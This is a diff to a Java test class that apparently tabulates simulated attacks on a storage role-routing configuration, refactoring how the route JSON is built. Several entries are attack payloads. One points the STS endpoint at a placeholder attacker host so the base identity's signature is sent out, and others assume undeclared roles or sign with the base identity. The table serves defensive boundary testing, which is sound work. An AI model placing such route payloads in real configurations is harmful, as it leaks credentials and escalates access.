@@ -2,6 +2,7 @@ package io.rolecall.boundary;
 
 import static io.rolecall.boundary.Attack.with;
 
+import io.rolecall.support.RoutesJson;
 import java.util.List;
 import java.util.stream.Stream;
 
@@ -30,19 +31,21 @@ final class AttackTable {
             .hidden()
             .reading(INSIDE)
             .choosable(),
-        with(ROUTES, byAttackersSts(), "sends the base identity's signature to the attacker")
+        routing(
+                route("s3a://{bucket}/inside").field("stsEndpoint", "http://{attacker}"),
+                "sends the base identity's signature to the attacker")
             .hidden()
             .reading(INSIDE)
             .choosable(),
-        with(ROUTES, route("s3a://{vault}", ""), "assumes a role that nobody declared")
+        routing(route("s3a://{vault}"), "assumes a role that nobody declared")
             .hidden()
             .readingTheVault()
             .choosable(),
-        with(ROUTES, byBase("s3a://{vault}"), "signs with the base identity itself")
+        routing(new RoutesJson().base("s3a://{vault}"), "signs with the base identity itself")
             .hidden()
             .readingTheVault()
             .choosable(),
-        with(ROUTES, route("s3a://{bucket}/inside", ""), "assumes another role for a prefix")
+        routing(route("s3a://{bucket}/inside"), "assumes another role for a prefix")
             .hidden()
             .reading(INSIDE)
             .choosable(),
@@ -222,18 +225,12 @@ final class AttackTable {
             .withoutEffect());
   }
 
-  private static String route(String location, String more) {
-    return "{\"version\":1,\"routes\":[{\"location\":\"%s\",\"role\":\"%s\"%s}]}"
-        .formatted(location, Accounts.VAULT_ROLE, more);
+  private static Attack routing(RoutesJson routes, String gain) {
+    return with(ROUTES, routes.toString(), gain);
   }
 
-  private static String byBase(String location) {
-    return "{\"version\":1,\"routes\":[{\"location\":\"%s\",\"identity\":\"base\"}]}"
-        .formatted(location);
-  }
-
-  private static String byAttackersSts() {
-    return route("s3a://{bucket}/inside", ",\"stsEndpoint\":\"http://{attacker}\"");
+  private static RoutesJson route(String location) {
+    return new RoutesJson().role(location, Accounts.VAULT_ROLE);
   }
 
   private static String byCommand() {
